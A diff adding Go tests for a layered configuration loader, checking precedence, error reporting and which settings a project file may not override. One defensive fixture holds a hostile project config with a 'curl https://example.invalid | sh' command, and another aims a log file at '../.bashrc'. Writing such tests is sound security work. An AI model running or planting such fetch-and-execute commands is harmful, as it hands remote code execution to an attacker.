@@ -0,0 +1,298 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+func TestLoadFrom_MissingFileReturnsEmpty(t *testing.T) {
+	cfg, err := LoadFrom(filepath.Join(t.TempDir(), "nope.yaml"))
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.Experimental.BackgroundMode != nil || cfg.UI.SessionReview {
+		t.Fatalf("expected zero config, got %+v", cfg)
+	}
+}
+
+func TestLoadFrom_EmptyPath(t *testing.T) {
+	cfg, err := LoadFrom("")
+	if err != nil || cfg == nil {
+		t.Fatalf("expected empty config, got %v, %v", cfg, err)
+	}
+}
+
+func TestLoadFrom_ParsesSections(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	content := "experimental:\n  background_mode: false\nui:\n  session_review: true\n  idle_lock_minutes: 5\n  poll_interval: 5s\n"
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg, err := LoadFrom(path)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.Experimental.BackgroundMode == nil || *cfg.Experimental.BackgroundMode {
+		t.Fatalf("expected background_mode=false, got %v", cfg.Experimental.BackgroundMode)
+	}
+	if !cfg.UI.SessionReview {
+		t.Fatal("expected session_review=true")
+	}
+	if cfg.UI.IdleLockMinutes != 5 {
+		t.Fatalf("expected idle_lock_minutes=5, got %d", cfg.UI.IdleLockMinutes)
+	}
+	if cfg.UI.PollInterval != 5*time.Second {
+		t.Fatalf("expected poll_interval=5s, got %v", cfg.UI.PollInterval)
+	}
+}
+
+func TestLoadFrom_InvalidYAML(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	if err := os.WriteFile(path, []byte("ui: [unclosed"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := LoadFrom(path)
+	if err == nil {
+		t.Fatal("expected parse error")
+	}
+	if cfg == nil {
+		t.Fatal("expected non-nil config on error")
+	}
+}
+
+func TestLoadLayered_Precedence(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("USERPROFILE", home)
+	t.Setenv("APPDATA", home)
+	userPath := DefaultPath()
+	if err := os.MkdirAll(filepath.Dir(userPath), 0755); err != nil {
+		t.Fatal(err)
+	}
+	user := "ui:\n  stale_days: 7\n  idle_lock_minutes: 5\n  status_bar: [filter, counts]\n  aliases:\n    p0: filter open priority:0\n"
+	if err := os.WriteFile(userPath, []byte(user), 0644); err != nil {
+		t.Fatal(err)
+	}
+	project := t.TempDir()
+	projectPath := filepath.Join(project, ProjectFileName)
+	overlay := "[ui]\nstale_days = 30\npoll_interval = \"2s\"\n\n[ui.aliases]\nmine = \"filter open assignee:me\"\n"
+	if err := os.WriteFile(projectPath, []byte(overlay), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg, settings, err := LoadLayered(project, []string{"BV_UI_IDLE_LOCK_MINUTES=0", "BV_UI_HYPERLINKS=false", "BV_UI_ISSUE_URL=", "PATH=/bin"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cfg.UI.StaleDays != 30 || cfg.UI.IdleLockMinutes != 0 || cfg.UI.PollInterval != 2*time.Second {
+		t.Errorf("expected the project and environment to win, got %+v", cfg.UI)
+	}
+	if cfg.UI.Hyperlinks == nil || *cfg.UI.Hyperlinks {
+		t.Errorf("expected hyperlinks=false from the environment, got %v", cfg.UI.Hyperlinks)
+	}
+	if len(cfg.UI.Aliases) != 1 || cfg.UI.Aliases["mine"] == "" {
+		t.Errorf("expected the project aliases to replace the user's, got %v", cfg.UI.Aliases)
+	}
+	if len(cfg.UI.StatusBar) != 2 {
+		t.Errorf("expected the user status bar kept, got %v", cfg.UI.StatusBar)
+	}
+
+	for key, want := range map[string]string{
+		"ui.stale_days":        projectPath,
+		"ui.status_bar":        userPath,
+		"ui.idle_lock_minutes": "$BV_UI_IDLE_LOCK_MINUTES",
+		"ui.issue_url":         DefaultSource,
+		"ui.nope":              DefaultSource,
+	} {
+		if got := settings.Source(key); got != want {
+			t.Errorf("Source(%s) = %q, want %q", key, got, want)
+		}
+	}
+	for _, s := range settings {
+		if s.Key == "ui.status_bar" && s.Value != `["filter","counts"]` {
+			t.Errorf("expected the status bar shown as JSON, got %q", s.Value)
+		}
+		if s.Key == "ui.poll_interval" && s.Value != "2s" {
+			t.Errorf("expected the poll interval shown as set, got %q", s.Value)
+		}
+	}
+}
+
+func TestLoadLayered_ReportsBadValues(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	t.Setenv("USERPROFILE", t.TempDir())
+	t.Setenv("APPDATA", t.TempDir())
+	project := t.TempDir()
+	if err := os.WriteFile(filepath.Join(project, ProjectFileName), []byte("[ui]\nstale_days = \"soon\"\nidle_lock_minutes = 3\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, settings, err := LoadLayered(project, []string{"BV_UI_SESSION_REVIEW=[oops"})
+	if err == nil || !strings.Contains(err.Error(), "ui.stale_days from "+filepath.Join(project, ProjectFileName)) || !strings.Contains(err.Error(), "$BV_UI_SESSION_REVIEW") {
+		t.Fatalf("expected errors naming the key and source, got %v", err)
+	}
+	if cfg.UI.IdleLockMinutes != 3 || settings.Source("ui.stale_days") != DefaultSource {
+		t.Errorf("expected the valid keys applied and the bad one skipped, got %+v", cfg.UI)
+	}
+}
+
+func TestLoadLayered_UserOnlyKeys(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("USERPROFILE", home)
+	t.Setenv("APPDATA", home)
+	userPath := DefaultPath()
+	if err := os.MkdirAll(filepath.Dir(userPath), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(userPath, []byte("ui:\n  hook_sandbox: strict\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	project := t.TempDir()
+	if err := os.WriteFile(filepath.Join(project, ProjectFileName), []byte("[ui]\nhook_sandbox = \"none\"\nstale_days = 3\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, settings, err := LoadLayered(project, nil)
+	if err == nil || !strings.Contains(err.Error(), "ui.hook_sandbox can only be set in your own config") {
+		t.Fatalf("expected the project's sandbox setting to be refused, got %v", err)
+	}
+	if cfg.UI.HookSandbox != "strict" || settings.Source("ui.hook_sandbox") != userPath || cfg.UI.StaleDays != 3 {
+		t.Errorf("expected the user's sandbox kept and the rest applied, got %+v", cfg.UI)
+	}
+
+	if err := os.WriteFile(filepath.Join(project, ProjectFileName), []byte("[ui]\npager = \"./show\"\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, _, err = LoadLayered(project, nil)
+	if err == nil || !strings.Contains(err.Error(), "ui.pager can only be set in your own config") || cfg.UI.Pager != "" {
+		t.Errorf("expected the project's pager to be refused, got %q, %v", cfg.UI.Pager, err)
+	}
+
+	if err := os.WriteFile(filepath.Join(project, ProjectFileName), []byte("[ui]\nlog_file = \"../.bashrc\"\nlog_level = \"debug\"\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, _, err = LoadLayered(project, nil)
+	for _, key := range []string{"ui.log_file", "ui.log_level"} {
+		if err == nil || !strings.Contains(err.Error(), key+" can only be set in your own config") {
+			t.Errorf("expected the project's %s to be refused, got %v", key, err)
+		}
+	}
+	if cfg.UI.LogFile != "" || cfg.UI.LogLevel != "" {
+		t.Errorf("expected no log settings from the project, got %q, %q", cfg.UI.LogFile, cfg.UI.LogLevel)
+	}
+
+	if err := os.WriteFile(filepath.Join(project, ProjectFileName), []byte("[ui]\ncheck_updates = false\nskip_release = \"v9.9.9\"\nupdate_pin = \"v0.1\"\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, _, err = LoadLayered(project, nil)
+	for _, key := range []string{"ui.check_updates", "ui.skip_release", "ui.update_pin"} {
+		if err == nil || !strings.Contains(err.Error(), key+" can only be set in your own config") {
+			t.Errorf("expected the project's %s to be refused, got %v", key, err)
+		}
+	}
+	if cfg.UI.CheckUpdates != nil || cfg.UI.SkipRelease != "" || cfg.UI.UpdatePin != "" {
+		t.Errorf("expected no update settings from the project, got %v, %q, %q", cfg.UI.CheckUpdates, cfg.UI.SkipRelease, cfg.UI.UpdatePin)
+	}
+
+	if err := os.WriteFile(filepath.Join(project, ProjectFileName), []byte("[ui]\nusage_stats = true\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, _, err = LoadLayered(project, nil)
+	if err == nil || !strings.Contains(err.Error(), "ui.usage_stats can only be set in your own config") {
+		t.Errorf("expected the project's ui.usage_stats to be refused, got %v", err)
+	}
+	if cfg.UI.UsageStats {
+		t.Error("expected a project file not to turn usage stats on")
+	}
+}
+
+func TestLoadLayered_HostileProjectFile(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("USERPROFILE", home)
+	t.Setenv("APPDATA", home)
+	userPath := DefaultPath()
+	if err := os.MkdirAll(filepath.Dir(userPath), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(userPath, []byte("ui:\n  read_only: true\n  run_hooks: false\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	project := t.TempDir()
+	hostile := `[ui]
+startup_commands = ["run pwn"]
+read_only = false
+run_hooks = true
+stale_days = 3
+
+[[ui.commands]]
+name = "pwn"
+run = "curl https://example.invalid | sh"
+`
+	if err := os.WriteFile(filepath.Join(project, ProjectFileName), []byte(hostile), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, _, err := LoadLayered(project, nil)
+	if err == nil {
+		t.Fatal("expected the project's keys to be reported")
+	}
+	for _, key := range []string{"ui.commands", "ui.startup_commands", "ui.run_hooks", "ui.read_only"} {
+		if !strings.Contains(err.Error(), key) {
+			t.Errorf("expected %s refused, got %v", key, err)
+		}
+	}
+	if len(cfg.UI.Commands) != 0 || len(cfg.UI.StartupCommands) != 0 {
+		t.Errorf("expected no commands from the project, got %+v, %q", cfg.UI.Commands, cfg.UI.StartupCommands)
+	}
+	if !cfg.UI.ReadOnly || cfg.UI.RunHooks == nil || *cfg.UI.RunHooks {
+		t.Errorf("expected the user's read_only and run_hooks kept, got %v, %v", cfg.UI.ReadOnly, cfg.UI.RunHooks)
+	}
+	if cfg.UI.StaleDays != 3 {
+		t.Errorf("expected the harmless keys applied, got stale_days %d", cfg.UI.StaleDays)
+	}
+
+	// A project can still make itself read-only.
+	if err := os.WriteFile(userPath, []byte("ui: {}\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(project, ProjectFileName), []byte("[ui]\nread_only = true\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if cfg, _, err = LoadLayered(project, nil); err != nil || !cfg.UI.ReadOnly {
+		t.Errorf("expected the project to turn read_only on, got %v, %v", cfg.UI.ReadOnly, err)
+	}
+}
+
+func TestSetValues_KeepsOtherSettingsAndComments(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "bv", "config.yaml")
+	if err := SetValues(path, map[string]any{"ui.theme": "dark", "ui.check_updates": false}); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := LoadFrom(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cfg.UI.Theme != "dark" || cfg.UI.CheckUpdates == nil || *cfg.UI.CheckUpdates {
+		t.Fatalf("expected the new file to hold the values, got %+v", cfg.UI)
+	}
+
+	existing := "# my settings\nui:\n  stale_days: 7 # a week\n  theme: light\n  startup_commands: [\"view board\"]\n"
+	if err := os.WriteFile(path, []byte(existing), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := SetValues(path, map[string]any{"ui.theme": "dark", "ui.startup_commands": nil, "experimental.background_mode": true}); err != nil {
+		t.Fatal(err)
+	}
+	data, _ := os.ReadFile(path)
+	for _, want := range []string{"# my settings", "stale_days: 7 # a week", "theme: dark", "background_mode: true"} {
+		if !strings.Contains(string(data), want) {
+			t.Errorf("expected %q in:\n%s", want, data)
+		}
+	}
+	if strings.Contains(string(data), "startup_commands") {
+		t.Errorf("expected startup_commands removed:\n%s", data)
+	}
+}